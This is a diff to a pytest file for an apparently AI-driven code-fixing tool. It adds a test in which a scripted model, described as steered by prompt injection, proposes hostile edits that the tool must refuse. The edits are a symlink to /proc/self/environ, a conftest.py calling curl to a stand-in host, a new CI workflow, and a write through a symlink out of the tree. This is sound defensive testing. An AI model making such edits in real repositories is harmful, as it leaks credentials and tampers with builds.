@@ -11,13 +11,15 @@ import subprocess
 import sys
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from benchmarks.fake_openai import FakeServer, fake_openai
-from benchmarks.fix_fixtures import FIXTURES, fix_fixture, scripted_model
+from benchmarks.fake_openai import FakeServer, Reply, fake_openai
+from benchmarks.fix_fixtures import FIXTURES, OFF_BY_ONE_DIFF, fix_fixture, scripted_model
 from sandbox.repo import RepoSandbox
-from solver.fix import FixConfig, snapshot
+from solver.checkout import snapshot
+from solver.fix import FixConfig
 from solver.models import ModelClient, ModelConfig
 
 pytestmark = pytest.mark.usefixtures("engine")
@@ -151,3 +153,45 @@ def test_the_repository_dependencies_are_installed_in_a_derived_image(tmp_path: 
     run = sandbox.run(files, [])
     sandbox.close()
     assert run.outcomes == {"test_dep::test_dependency": "passed"}, run.output
+
+
+MARK = "PWNED-c0mm1ttee"
+FIXED_LINE = "    return [sum(values[i : i + width]) for i in range(len(values) - width + 1)]\n"
+
+
+def hostile_model(request: dict[str, Any]) -> Reply:
+    """A model steered by prompt injection: a symlink to the host's environment, edits to the CI and test
+    configuration, and a right fix that also writes through the repository's link out of the tree."""
+    symlink = ("```diff\ndiff --git a/leak b/leak\nnew file mode 120000\n--- /dev/null\n+++ b/leak\n"
+               "@@ -0,0 +1 @@\n+/proc/self/environ\n```\n")  # fmt: skip
+    config = ("```diff\n--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n```\n"
+              "FILE: conftest.py\n```python\nimport os\nos.system('curl x.test')\n```\n")  # fmt: skip
+    through_link = OFF_BY_ONE_DIFF + "\nFILE: vendor/evil.py\n```python\nX = 1\n```\n"
+    if request.get("temperature") == 0:
+        return Reply([symlink])
+    return Reply(([config, through_link] + ["no idea"] * request.get("n", 1))[: request.get("n", 1)])
+
+
+def test_hostile_answers_change_nothing_on_the_host_and_no_secret_reaches_a_prompt(tmp_path: Path) -> None:
+    repo, outside = tmp_path / "repo", tmp_path / "outside"
+    shutil.copytree(FIXTURES / "off_by_one", repo)
+    outside.mkdir()
+    (repo / "vendor").symlink_to(outside)
+    (repo / ".env").write_text(f"GH_TOKEN={MARK}\n")
+    (repo / "tests" / "test_env.py").write_text("from pathlib import Path\n\n\ndef test_no_secret_here():\n"
+                                                "    assert not Path('.env').exists()\n")  # fmt: skip
+    with fake_openai(hostile_model) as server:
+        done = subprocess.run(
+            ["committee", "fix", "--repo", str(repo), "--cheap", f"cheap@{server.base_url}", "--strong", "none",
+             "--cache", str(tmp_path / "c"), "--summary", str(tmp_path / "summary.md")],
+            capture_output=True, text=True, env={**os.environ, "GH_TOKEN": MARK},
+        )  # fmt: skip
+    assert done.returncode == 1, done.stderr
+    assert "refusing vendor/evil.py: vendor is a link" in done.stderr
+    assert "not copied to the sandbox or shown to a model (secret-looking): .env" in done.stderr
+    assert list(outside.iterdir()) == []
+    assert (repo / "windows.py").read_text() == (FIXTURES / "off_by_one" / "windows.py").read_text()
+    assert not (repo / "leak").exists() and not (repo / "conftest.py").exists()
+    assert MARK not in json.dumps(server.requests)
+    # The fix the sandbox accepted: windows.py and the harmless new file; no link, no configuration.
+    assert FIXED_LINE in done.stdout and "leak" not in done.stdout and "conftest" not in done.stdout
